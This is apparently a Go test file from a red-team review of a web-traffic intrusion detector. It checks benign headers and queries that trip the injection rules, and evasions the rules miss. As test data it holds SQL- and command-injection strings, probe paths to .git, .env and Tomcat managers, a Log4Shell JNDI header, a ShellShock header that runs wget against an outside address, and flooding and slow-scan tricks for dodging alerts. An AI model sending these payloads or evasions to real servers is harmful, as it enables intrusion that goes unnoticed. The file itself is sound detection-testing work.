package detector

import (
	"fmt"
	"net/netip"
	"testing"
	"time"
)

// Red-team review of the web rules (issue 10). Every test here states
// what the rules should do and failed on the code it was written against;
// the report to the lead ranks them. Benign cases want silence, evasions
// want the label a plain scan gets.

// webVerdict is the label of the one final alert of w's events, or "".
func webVerdict(t *testing.T, w *webTraffic) (string, *Alert) {
	t.Helper()
	got := finals(runWeb(t, Config{}, w.evs))
	if len(got) == 0 {
		return "", nil
	}
	return got[0].Label, &got[0]
}

func wantQuiet(t *testing.T, w *webTraffic) {
	t.Helper()
	if label, a := webVerdict(t, w); label != "" {
		t.Fatalf("benign traffic alerted %s: signals %v injections %v categories %v samples %v",
			label, a.HTTP.Signals, a.HTTP.Injections, a.HTTP.ProbeCategories, a.HTTP.SamplePaths)
	}
}

func wantLabel(t *testing.T, w *webTraffic, label string) {
	t.Helper()
	if got, _ := webVerdict(t, w); got != label {
		t.Fatalf("got %q, want %q", got, label)
	}
}

// pages is a browser reading n distinct pages, each request carrying extra.
func pages(ua string, n int, extra ...string) *webTraffic {
	w := newWeb(ua)
	for i := 0; i < n; i++ {
		w.get(fmt.Sprintf("/page-%c", 'a'+i), 200, extra...)
	}
	return w
}

// Header lines every request of an ordinary visitor carries. The
// injection patterns run on all header lines, and the per-client memo
// gives each later request the header's classes, so three page views are
// "three distinct requests with a payload": T1595.002.
func TestRedTeamBenignHeadersLookLikeInjection(t *testing.T) {
	for name, h := range map[string]string{
		// cmdi "(;|\|...)\s*(id|dir|type|...)\b": a cookie named id, dir, type...
		"cookie named id":   "Cookie: session=abc123; id=42\r\n",
		"cookie named dir":  "Cookie: lang=ar; dir=rtl\r\n",
		"cookie named type": "Cookie: view=1; type=grid\r\n",
		// sqli "['\"]\s*(--|#|/\*|;)": RFC 6265 quoted cookie values (Django's messages cookie)
		"quoted cookie": "Cookie: messages=\"abc\"; csrftoken=x\r\n",
		// RFC 7239: an IPv6 node must be quoted; a proxy in front of the sensor adds it
		"Forwarded header": "Forwarded: for=\"[2001:db8::17]:4711\";proto=http\r\n",
		// Chrome's client hints (sent to a TLS-terminating proxy's plain-HTTP backend)
		"sec-ch-ua": "sec-ch-ua: \"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\"\r\n",
	} {
		t.Run(name, func(t *testing.T) { wantQuiet(t, pages(firefoxUA, 4, h)) })
	}
	// A Sharp phone's User-Agent: "...; ja-jp; SH-01D Build/..." is cmdi "; sh".
	t.Run("Sharp Android user agent", func(t *testing.T) {
		wantQuiet(t, pages("Mozilla/5.0 (Linux; U; Android 4.0.4; ja-jp; SH-01D Build/S1040) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30", 4))
	})
}

// Ordinary query strings the injection patterns take for payloads: three
// distinct targets are enough, so one search and its pages 2 and 3 alert.
func TestRedTeamBenignQueriesLookLikeInjection(t *testing.T) {
	for name, targets := range map[string][]string{
		"quoted search with OR, paginated": {"/search?q=%22cats%22+or+%22dogs%22", "/search?q=%22cats%22+or+%22dogs%22&page=2", "/search?q=%22cats%22+or+%22dogs%22&page=3"},
		"grouped search with AND":          {"/search?q=(red)+and+(blue)", "/search?q=(red)+and+(blue)&page=2", "/search?q=(red)+and+(blue)&page=3"},
		"SQL documentation search":         {"/docs/search?q=CAST(x+AS+int)", "/docs/search?q=convert(varchar,+x)", "/docs/search?q=concat(a,b)"},
		"pipe-separated field list":        {"/api/users?fields=name|id|email", "/api/orders?fields=total|id", "/api/items?fields=price|id"},
		"semicolon-separated parameters":   {"/list?sort=name;dir=asc", "/list?sort=date;dir=desc", "/list?sort=size;dir=asc"},
		"matrix parameters":                {"/products;type=shoes", "/products;type=hats", "/products;type=bags"},
		"Angular/Mustache template param":  {"/t?tpl=%7B%7Buser.name%7D%7D", "/t?tpl=%7B%7Buser.mail%7D%7D", "/t?tpl=%7B%7Buser.city%7D%7D"},
		"CMS editor attribute names":       {"/cms/edit?attr=onload%3Dinit", "/cms/edit?attr=onload%3Dinit2", "/cms/edit?attr=onload%3Dinit3"},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWeb(firefoxUA)
			for _, target := range targets {
				w.get(target, 200)
			}
			wantQuiet(t, w)
		})
	}
}

// A visitor of any WordPress site: its pages load their plugins' styles and
// scripts from /wp-content/plugins/, a probe-list prefix, so five assets
// of one page view are five probe paths.
func TestRedTeamWordPressVisitorIsProbing(t *testing.T) {
	w := newWeb(firefoxUA).get("/", 200)
	for i := 0; i < 8; i++ {
		ext := []string{"css", "js"}[i%2]
		w.get(fmt.Sprintf("/wp-content/plugins/plugin%d/assets/main.%s", i, ext), 200, "Referer: http://shop.example/\r\n")
	}
	wantQuiet(t, w)
}

// Cache-busting queries (WordPress adds ?ver= to every asset) make a static
// asset count as a non-static path: a visitor of a site with a dozen
// missing assets is a wordlist scan when responses are seen.
func TestRedTeamMissingAssetsWithVersionQuery(t *testing.T) {
	w := newWeb(firefoxUA).get("/", 200)
	for i := 0; i < 12; i++ {
		w.get(fmt.Sprintf("/theme/img/gallery%d.jpg?ver=6.4.2", i), 404, "Referer: http://shop.example/\r\n")
	}
	wantQuiet(t, w)
}

// Probe paths in forms the server resolves to the same file: the list is
// matched against the path as sent (decoded and lowercased, not
// normalised), so each form misses. Five such probes want T1595.002 as
// their plain forms get.
func TestRedTeamProbePathNormalisation(t *testing.T) {
	for name, paths := range map[string][]string{
		"dot segment":          {"/./.git/HEAD", "/./.env", "/./phpinfo.php", "/./server-status", "/./.htpasswd"},
		"double slash":         {"//.git/HEAD", "//.env", "//phpinfo.php", "//server-status", "//.htpasswd"},
		"trailing slash":       {"/.git/HEAD", "/.env/", "/phpinfo.php/", "/server-status/", "/.htpasswd/"},
		"PATH_INFO after .php": {"/.git/HEAD", "/.env", "/phpinfo.php/x", "/info.php/x", "/test.php/x"},
		"path parameter":       {"/.git;x/HEAD", "/.env;x", "/phpinfo.php;x", "/server-status;x", "/.htpasswd;x"},
		"Tomcat ..; traversal": {"/x/..;/manager/html", "/x/..;/host-manager/html", "/x/..;/jmx-console", "/x/..;/web-console", "/x/..;/invoker/x"},
		"space after method":   {" /.git/HEAD", " /.env", " /phpinfo.php", " /server-status", " /.htpasswd"},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWeb(firefoxUA)
			for _, p := range paths {
				w.get(p, 404)
			}
			wantLabel(t, w, LabelVulnScan)
		})
	}
}

// A query holding "://" within its first 8 bytes is taken for an
// absolute-form target, and everything after the next '/' - or the whole
// query - is thrown away: "?a=b://&id=payload" hides any payload.
func TestRedTeamSchemeInQueryHidesPayload(t *testing.T) {
	w := newWeb(firefoxUA)
	for i := 1; i <= 3; i++ {
		w.get(fmt.Sprintf("/?a=b://&id=%d'%%20or%%20'1'='1", i), 200)
	}
	wantLabel(t, w, LabelVulnScan)
}

// Encodings and separators back ends accept that the patterns do not:
// MySQL takes \v and \xa0 as spaces, "||" is OR in MySQL and
// concatenation in Oracle/Postgres, and IIS decodes %c0%af and %uXXXX.
func TestRedTeamInjectionEncodings(t *testing.T) {
	for name, targets := range map[string][]string{
		"vertical tab spaces": {"/i?id=1%0bUNION%0bSELECT%0b1", "/i?id=2%0bUNION%0bSELECT%0b2", "/i?id=3%0bUNION%0bSELECT%0b3"},
		"|| tautology":        {"/i?id=1'||'1'='1", "/i?id=2'||'2'='2", "/i?id=3'||'3'='3"},
		"newline command":     {"/p?h=1%0aid", "/p?h=2%0awhoami", "/p?h=3%0auname"},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWeb(firefoxUA)
			for _, target := range targets {
				w.get(target, 200)
			}
			wantLabel(t, w, LabelVulnScan)
		})
	}
}

// A "100 Continue" interim response is paired with the request it precedes
// and takes it off the queue, so the final 404 finds none: a wordlist sent
// with "Expect: 100-continue" (curl does for bodies over 1 KB) never counts
// a failed path.
func TestRedTeamInterimResponseEatsRequest(t *testing.T) {
	w := newWeb(firefoxUA)
	for i, p := range wordlist(12) {
		w.sport = uint16(41000 + i) // one connection a request, as sqlmap does
		w.get(p, 100, "Expect: 100-continue\r\n")
		w.evs = append(w.evs, w.evs[len(w.evs)-1])
		w.evs[len(w.evs)-1].HTTP = &HTTP{Response: true, Status: 404}
	}
	wantLabel(t, w, LabelWordlistScan)
}

// Responses pair with the oldest request waiting on the connection, but a
// queue of four drops the oldest when a fifth arrives: four wordlist
// probes followed by four static decoys on each connection (each its own
// segment) get the 404s paired with the decoys.
func TestRedTeamPairingQueueDecoys(t *testing.T) {
	w := newWeb(firefoxUA)
	words := wordlist(12)
	for c := 0; c < 3; c++ {
		w.sport = uint16(42000 + c)
		for i := 0; i < 4; i++ {
			w.get(words[4*c+i], 0)
		}
		for i := 0; i < 4; i++ {
			w.get(fmt.Sprintf("/img/decoy%d.png", i), 0)
		}
		resp := w.evs[len(w.evs)-1]
		resp.Src, resp.Dst = resp.Dst, resp.Src
		resp.SrcPort, resp.DstPort = resp.DstPort, resp.SrcPort
		for i := 0; i < 8; i++ {
			r := resp
			r.Time = w.t
			w.t = w.t.Add(time.Millisecond)
			r.HTTP = &HTTP{Response: true, Status: map[bool]uint16{true: 404, false: 200}[i < 4]}
			w.evs = append(w.evs, r)
		}
	}
	wantLabel(t, w, LabelWordlistScan)
}

// A high-confidence payload (Log4Shell, ShellShock) in a single request -
// the mass-exploitation bots' pattern - is below the three-request
// threshold.
func TestRedTeamSingleHighConfidencePayload(t *testing.T) {
	for name, h := range map[string]string{
		"log4shell":  "X-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n",
		"shellshock": "Referer: () { :; }; /bin/bash -c 'wget http://192.0.2.1/x'\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			wantLabel(t, newWeb(firefoxUA).get("/", 200, h), LabelVulnScan)
		})
	}
}

// An absolute-form target with a query and no path ("GET
// http://host?id=..." - nginx reads the query) lost its query.
func TestRedTeamAbsoluteFormQueryKept(t *testing.T) {
	h := &HTTP{Method: "GET", Target: "http://shop.example?id=1'%20or%20'1'='1", Head: "GET x HTTP/1.1\r\n"}
	if got := DefaultWebLists().inspect(h, nil, nil).injected; len(got) == 0 {
		t.Fatal("payload in the query of an absolute-form target without a path: not seen")
	}
}

// One spoofed-looking request each from 70,000 addresses (no handshake is
// asked of a web event) pushes every earlier client out of the web table:
// a real scanner that pauses while the flood runs starts over.
func TestRedTeamClientFloodErasesEvidence(t *testing.T) {
	var evs []Event
	words := wordlist(12)
	w := newWeb(firefoxUA)
	for round := 0; round < 2; round++ {
		w.evs = nil
		for _, p := range words[6*round : 6*round+6] {
			w.get(p, 404)
		}
		evs = append(evs, w.evs...)
		flood := Event{Time: w.t, Dst: netip.MustParseAddr(webServerAddr), DstPort: 80, SrcPort: 5555, Kind: KindOther, Flags: FlagACK | FlagPSH}
		for i := 0; i < maxWebClients+5000; i++ {
			flood.Src = netip.AddrFrom4([4]byte{100, 64 + byte(i>>16), byte(i >> 8), byte(i)})
			flood.HTTP = &HTTP{Method: "GET", Target: "/", Head: "GET / HTTP/1.1\r\n\r\n"}
			evs = append(evs, flood)
		}
		w.t = w.t.Add(time.Second)
	}
	for _, a := range finals(runWeb(t, Config{}, evs)) {
		if a.Source.String() == webClientAddr {
			return
		}
	}
	t.Fatal("12 distinct 404 paths within a minute, split by a flood of one-request clients: no alert")
}

// Slow scans: the web rules count over the short window only (5 min), so
// a wordlist at one request every 31 s reaches 9-10 failed paths a window;
// without responses (live) one every 4 s stays under 100 paths.
func TestRedTeamSlowWordlist(t *testing.T) {
	t.Run("live view, one request every 4 s", func(t *testing.T) {
		w := newWeb(firefoxUA)
		for _, p := range wordlist(300) {
			w.get(p, 0).after(4 * time.Second)
		}
		wantLabel(t, w, LabelWordlistScan)
	})
	t.Run("with 404s, one request every 35 s", func(t *testing.T) {
		w := newWeb(firefoxUA)
		for _, p := range wordlist(100) {
			w.get(p, 404).after(35 * time.Second)
		}
		wantLabel(t, w, LabelWordlistScan)
	})
}
